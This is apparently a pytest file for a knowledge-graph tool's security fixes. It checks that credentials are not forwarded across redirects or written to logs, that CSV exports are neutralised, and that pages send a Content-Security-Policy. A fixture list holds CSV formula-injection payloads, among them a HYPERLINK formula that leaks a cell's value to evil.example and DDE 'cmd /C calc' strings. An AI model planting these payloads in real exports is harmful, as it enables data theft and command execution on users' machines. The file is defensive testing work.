"""Issue 40, "a way in": credentials stay with their origin and out of logs, CSV cells are
not formulas, the query page fetches images from Commons only and runs under a CSP."""
from __future__ import annotations

import base64
import json
import logging
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from kgcult.errors import KgcultError
from kgcult.store.remote import RemoteStore

ASK_TRUE = json.dumps({"head": {}, "boolean": True}).encode()


@contextmanager
def http_server(answer):
    """A loopback HTTP server: ``answer(handler, body)`` -> (status, headers, body); every
    request's (path, headers) is recorded in ``.seen``."""
    seen: list = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self):
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            seen.append((self.path, dict(self.headers)))
            status, headers, data = answer(self, body)
            self.send_response(status)
            for k, v in headers:
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *args):
            pass

    srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    srv.seen = seen  # type: ignore[attr-defined]
    srv.url = f"http://127.0.0.1:{srv.server_address[1]}"  # type: ignore[attr-defined]
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    try:
        yield srv
    finally:
        srv.shutdown()
        srv.server_close()


def sparql_answer(handler, body):
    return 200, [("Content-Type", "application/sparql-results+json")], ASK_TRUE


def redirect_to(target: str, status: int = 307):
    def answer(handler, body):
        return status, [("Location", target)], b""
    return answer


def _auth(headers: dict):
    return {k.lower(): v for k, v in headers.items()}.get("authorization")


# -- credentials never cross an origin ------------------------------------------------------------


@pytest.mark.parametrize("status", [307, 308])
def test_a_redirect_to_another_port_gets_no_credentials(monkeypatch, status):
    """Before: a redirect to another port of the same host forwarded Authorization,
    KGCULT_REMOTE_TOKEN included (only the host name was compared)."""
    monkeypatch.setenv("KGCULT_REMOTE_TOKEN", "tok-secret")
    with http_server(sparql_answer) as other, http_server(redirect_to(other.url + "/query", status)) as first:
        store = RemoteStore(first.url + "/query")
        assert store.query("ASK {}") and store.query("ASK {}")  # a permanent redirect is remembered
        assert _auth(first.seen[0][1]) == "Bearer tok-secret"
        assert other.seen and all(_auth(h) is None for _, h in other.seen), other.seen


def test_a_redirect_within_the_origin_keeps_the_credentials(monkeypatch):
    monkeypatch.setenv("KGCULT_REMOTE_TOKEN", "tok-secret")

    def answer(handler, body):
        if handler.path == "/old":
            return 308, [("Location", "/new")], b""
        return sparql_answer(handler, body)

    with http_server(answer) as srv:
        assert RemoteStore(srv.url + "/old").query("ASK {}")
        assert [(p, _auth(h)) for p, h in srv.seen] == [("/old", "Bearer tok-secret"), ("/new", "Bearer tok-secret")]


def test_a_password_in_the_endpoint_url_never_reaches_the_log(caplog):
    """Before: the permanent redirect's warning printed user:password of the endpoint URL."""
    def answer(handler, body):
        if handler.path == "/old":
            return 301, [("Location", "http://ann:other-secret@" + handler.headers["Host"] + "/new")], b""
        return sparql_answer(handler, body)

    with http_server(answer) as srv, caplog.at_level(logging.DEBUG):
        url = srv.url.replace("http://", "http://ann:s3cr%40t@") + "/old"
        store = RemoteStore(url)
        assert store.query("ASK {}")
        assert "s3cr" not in repr(store) and "s3cr" not in store.url
    text = caplog.text
    assert "moved permanently" in text and "s3cr" not in text and "other-secret" not in text, text


def test_credentials_in_the_endpoint_url_are_sent_as_basic_auth(monkeypatch):
    """Before: credentials in the URL were silently dropped (no authentication sent)."""
    monkeypatch.delenv("KGCULT_REMOTE_TOKEN", raising=False)
    with http_server(sparql_answer) as srv:
        assert RemoteStore(srv.url.replace("http://", "http://ann:s3cr%40t@") + "/query").query("ASK {}")
        assert _auth(srv.seen[0][1]) == "Basic " + base64.b64encode(b"ann:s3cr@t").decode()
    monkeypatch.setenv("KGCULT_REMOTE_TOKEN", "tok")
    with pytest.raises(KgcultError, match="credentials in the endpoint URL and an Authorization header") as e:
        RemoteStore("http://ann:s3cret@127.0.0.1:9/query")
    assert "s3cret" not in str(e.value)


# -- CSV cells no spreadsheet evaluates -------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _formula_store(tmp_path):
    from tests.conftest import FIXTURES, build_store

    extra = tmp_path / "labels.nt"
    wd = "http://www.wikidata.org/entity/"
    lines = []
    for i, text in enumerate(FORMULAS):
        lit = json.dumps(text)
        lines.append(f"<{wd}Q91000{40 + i}> <http://www.w3.org/2000/01/rdf-schema#label> {lit}@en .")
        lines.append(f"<{wd}Q91000{40 + i}> <http://www.wikidata.org/prop/direct/P31> <{wd}Q746549> .")
        lines.append(f"<{wd}Q91000{40 + i}> <http://www.wikidata.org/prop/direct/P495> <{wd}Q142> .")
        lines.append(f"<{wd}Q91000{40 + i}> <http://www.wikidata.org/prop/direct/P527> <{wd}Q9300001> .")
    extra.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return build_store(tmp_path / "store", files=(FIXTURES / "views" / "fmlama.ttl", extra))


def _cells(text: str) -> list[str]:
    import csv
    import io
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_build_csv_neutralises_formulas(tmp_path):
    """Before: `build ... --csv` wrote these labels as live spreadsheet formulas."""
    from tests.conftest import run_cli

    store = _formula_store(tmp_path)
    r = run_cli(["build", "fmlama", "--param", "languages=en", "--out", str(tmp_path / "out"), "--csv"], store)
    assert r.exit_code == 0, r.output
    (csv_file,) = (tmp_path / "out").rglob("fmlama.csv")
    cells = _cells(csv_file.read_bytes().decode("utf-8"))
    for text in FORMULAS:  # a label's surrounding blanks are trimmed by the view
        assert "'" + text in cells or "'" + text.strip() in cells, text
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit())]


def test_sparql_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    from tests.conftest import run_cli

    store = _formula_store(tmp_path)
    r = run_cli(["sparql", "SELECT ?l (-5 AS ?n) (\"-1.5e3\" AS ?m) WHERE { ?x rdfs:label ?l FILTER(STRSTARTS(STR(?x), "
                 "STR(wd:Q9100040)) || STRSTARTS(STR(?x), STR(wd:Q9100041))) }", "--format", "csv"], store)
    assert r.exit_code == 0, r.output
    cells = _cells(r.stdout)
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
    assert "-5" in cells and "-1.5e3" in cells  # numbers are no formulas


def test_csv_cell_follows_owasp():
    from kgcult.safe_text import csv_cell

    for text in FORMULAS:
        assert csv_cell(text) == "'" + text
    for text in ["sushi", "-5", "+1.5", "3e-2", "", "a=b"]:
        assert csv_cell(text) == text
    assert csv_cell(-5) == -5 and csv_cell(None) is None


# -- the query page: images from Commons only, a Content-Security-Policy --------------------------

PLUGINS = __import__("pathlib").Path(__file__).resolve().parents[1] / "kgcult" / "serve" / "web" / "yasr-plugins.js"


def _image_pattern_matches(iris: list[str]) -> list[bool]:
    """The image grid's IMAGE pattern, as the browser's JavaScript engine reads it (node)."""
    import re
    import shutil
    import subprocess

    node = shutil.which("node") or shutil.which("nodejs")
    if node is None:
        pytest.skip("node not found: the image grid's pattern is JavaScript")
    line = re.search(r"^\s*const IMAGE = (/.*/[a-z]*);$", PLUGINS.read_text(encoding="utf-8"), re.M)
    assert line, "no IMAGE pattern in yasr-plugins.js"
    script = f"const IMAGE = {line.group(1)}; console.log(JSON.stringify({json.dumps(iris)}.map((x) => IMAGE.test(x))));"
    out = subprocess.run([node, "-e", script], capture_output=True, text=True, timeout=60, check=True)
    return json.loads(out.stdout)


def test_the_image_grid_fetches_from_commons_only():
    """Before: the pattern `^https?://commons.../Special:FilePath/|\\.(jpe?g|png|...)$` lacked a
    group, so any IRI ending in .png was fetched from any host (a tracking pixel; no longer
    offline)."""
    iris = ["http://commons.wikimedia.org/wiki/Special:FilePath/Sushi%20platter.jpg",
            "https://commons.wikimedia.org/wiki/Special:FilePath/Ramen.png",
            "http://evil.example/pixel.png", "https://tracker.example/x.jpg?u=1",
            "http://evil.example/commons.wikimedia.org/wiki/Special:FilePath/a.png",
            "http://commons.wikimedia.org.evil.example/wiki/Special:FilePath/a.png"]
    assert _image_pattern_matches(iris) == [True, True, False, False, False, False]


def test_pages_send_a_content_security_policy_and_no_referrer(tmp_path):
    """Before: no Content-Security-Policy, frame-ancestors or Referrer-Policy on the pages."""
    import urllib.request

    from tests.conftest import build_store, running_server

    with running_server(build_store(tmp_path / "store")) as srv:
        for path in ("/", "/plain", "/entity/Q46383", "/query?query=ASK%20%7B%7D"):
            with urllib.request.urlopen(srv.url + path, timeout=30) as r:
                csp = r.headers["Content-Security-Policy"] or ""
                directives = dict((d.strip().split(" ", 1) + [""])[:2] for d in csp.split(";") if d.strip())
                assert directives.get("frame-ancestors") == "'none'", (path, csp)
                assert directives.get("script-src") == "'self'" and directives.get("connect-src") == "'self'"
                assert "evil" not in csp and "*" not in directives.get("img-src", "*")
                assert directives.get("default-src") == "'self'" and directives.get("object-src") == "'none'"
                assert r.headers["Referrer-Policy"] == "no-referrer", path
        # the page's own files are served from this server (what 'self' allows)
        with urllib.request.urlopen(srv.url + "/", timeout=30) as r:
            page = r.read().decode()
        import re
        assert not re.search(r"<script(?![^>]*\bsrc=\"/static/)", page)  # no inline script: none would run
        assert not re.search(r"(?:src|href)=\"https?://", page)


def test_the_mirror_client_sends_url_credentials_and_never_shows_them(caplog):
    """The mirror's client is the same SparqlClient: Basic auth from the URL, and its
    messages name the endpoint without the password."""
    from kgcult.acquire.endpoint.client import EndpointClient
    from tests.test_mirror import fast_config

    def answer(handler, body):
        return 200, [("Content-Type", "application/sparql-results+json")], b'{"head": {}, "results": '

    with http_server(answer) as srv, caplog.at_level(logging.DEBUG):
        url = srv.url.replace("http://", "http://ann:pw-s3cret@") + "/sparql"
        client = EndpointClient(fast_config(url, max_attempts=1))
        with pytest.raises(KgcultError) as e:
            client.count("SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }", "probe")
        assert _auth(srv.seen[0][1]) == "Basic " + base64.b64encode(b"ann:pw-s3cret").decode()
    assert "pw-s3cret" not in str(e.value) and "pw-s3cret" not in caplog.text
